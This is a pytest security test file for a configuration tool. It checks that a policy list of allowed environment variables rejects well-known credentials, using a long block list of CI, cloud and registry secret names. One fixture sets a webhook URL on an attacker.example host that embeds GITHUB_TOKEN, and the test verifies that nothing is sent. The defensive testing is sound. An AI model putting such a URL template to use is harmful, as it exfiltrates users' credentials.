"""``policy.allowed_env`` is written by the branch, as is where a value goes: no well-known credential can be allowed."""

from __future__ import annotations

import pytest

from reconciler.model.errors import ConfigError
from tests.cli.cli_support import make_space
from tests.security.security_support import STOLEN, network
from tests.spec_files import load_config


def words(text):
    return text.split()


CREDENTIALS = words("""
EVERSINCE_API_KEY EVERSINCE_PROD_API_KEY EVERSINCE_WEBHOOK_SECRET eversince_api_key RECONCILER_STATE RECONCILER_VAR_X
GITHUB_TOKEN github_token Github_Token GH_TOKEN GH_ENTERPRISE_TOKEN GITHUB_ENTERPRISE_TOKEN GITHUB_APP_TOKEN
ACTIONS_RUNTIME_TOKEN ACTIONS_ID_TOKEN_REQUEST_TOKEN ACTIONS_ID_TOKEN_REQUEST_URL ACTIONS_CACHE_URL
CI_JOB_TOKEN CI_JOB_JWT CI_JOB_JWT_V2 CI_REGISTRY_PASSWORD CI_DEPLOY_PASSWORD CI_BUILD_TOKEN CI_REPOSITORY_URL
CI_DEPENDENCY_PROXY_PASSWORD GITLAB_TOKEN GITLAB_API_TOKEN BITBUCKET_ACCESS_TOKEN SYSTEM_ACCESSTOKEN
AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN AWS_WEB_IDENTITY_TOKEN_FILE
AZURE_CLIENT_SECRET AZURE_STORAGE_KEY AZURE_STORAGE_SAS_TOKEN ARM_CLIENT_SECRET ARM_ACCESS_KEY
GOOGLE_APPLICATION_CREDENTIALS GOOGLE_CREDENTIALS GOOGLE_SERVICE_ACCOUNT_KEY GOOGLE_API_KEY CLOUDSDK_AUTH_ACCESS_TOKEN
NPM_TOKEN NODE_AUTH_TOKEN PYPI_TOKEN PYPI_API_TOKEN TWINE_PASSWORD UV_PUBLISH_TOKEN UV_INDEX_PRIVATE_PASSWORD
POETRY_PYPI_TOKEN_PYPI PIP_INDEX_URL CARGO_REGISTRY_TOKEN NUGET_API_KEY DOCKER_PASSWORD DOCKERHUB_TOKEN DOCKER_AUTH_CONFIG
SSH_PRIVATE_KEY SSH_AUTH_SOCK DEPLOY_PRIVATE_KEY GPG_PASSPHRASE GIT_ASKPASS VAULT_TOKEN TF_TOKEN_app_terraform_io
KUBECONFIG OPENAI_API_KEY ANTHROPIC_API_KEY HF_TOKEN STRIPE_SECRET_KEY SLACK_BOT_TOKEN SENTRY_AUTH_TOKEN
CLOUDFLARE_API_TOKEN DATABASE_URL PGPASSWORD HTTPS_PROXY https_proxy MINIO_ACCESS_KEY
""")
ORDINARY = words("""
WEBHOOK_TOKEN WEBHOOK_SECRET HOOK_TOKEN TOKEN OTHER MY_TOKEN CAMPAIGN_TOKEN CMS_TOKEN CMS_API_KEY ACME_PASSWORD
HOOK_URL BRAND_NAME SLACK_WEBHOOK_URL TEAMS_WEBHOOK_URL HOME LANG CI_COMMIT_SHA CI_PROJECT_NAME CI GITHUB_SHA
GITHUB_RUN_ID GITHUB_REPOSITORY MY_GITHUB_NAME PIPELINE_TOKEN CIRCLE_SHA1 A _
""")


@pytest.mark.parametrize("name", CREDENTIALS)
def test_a_well_known_credential_can_not_be_allowed(tmp_path, name):
    # Intent: the error stands at the item; nothing else is wrong.
    (tmp_path / "reconciler.yaml").write_text(f"workspace: w\npolicy: {{allowed_env: [WEBHOOK_TOKEN, {name}]}}\n")
    with pytest.raises(ConfigError) as failure:
        load_config(tmp_path, env={})
    (found,) = failure.value.diagnostics
    assert str(found.location) == "reconciler.yaml:2:39"
    assert name in found.summary and "can't be allowed" in found.summary


@pytest.mark.parametrize("name", ORDINARY)
def test_what_a_specification_may_need_can(tmp_path, name):
    (tmp_path / "reconciler.yaml").write_text(f"workspace: w\npolicy: {{allowed_env: [{name}]}}\n")
    assert load_config(tmp_path, env={}).policy.allowed_env == (name,)


def test_the_keys_own_variable_whatever_its_name_and_the_default(tmp_path):
    config = "api: {key_env: EVERSINCE_X}\npolicy: {allowed_env: [EVERSINCE_X, A, EVERSINCE_API_KEY, eversince_x]}\n"
    (tmp_path / "reconciler.yaml").write_text(config)
    with pytest.raises(ConfigError) as failure:
        load_config(tmp_path, env={})
    assert ["the API's key" in found.summary for found in failure.value.diagnostics] == [True] * 3


def test_a_credential_reaches_no_server_and_no_screen(tmp_path):
    # Intent: with the credential set, nothing is sent and its value is nowhere.
    spec = "projects:\n  a: {brief: x, settings: {webhook_url: 'https://attacker.example/${env.GITHUB_TOKEN}'}}\n"
    config = "workspace: acme\npolicy:\n  allowed_env:\n  - GITHUB_TOKEN\n"
    space = make_space(tmp_path / "w", spec, config, EVERSINCE_API_KEY="sk-1", GITHUB_TOKEN=STOLEN)
    with network() as net:
        for args in (("validate",), ("plan",), ("apply", "--auto-approve")):
            ran = space.run(*args, code=1, **net.env)
            assert "reconciler.yaml:4:5" in ran.err and "GITHUB_TOKEN" in ran.err
            assert STOLEN not in ran.out + ran.err
    assert net.heard == []
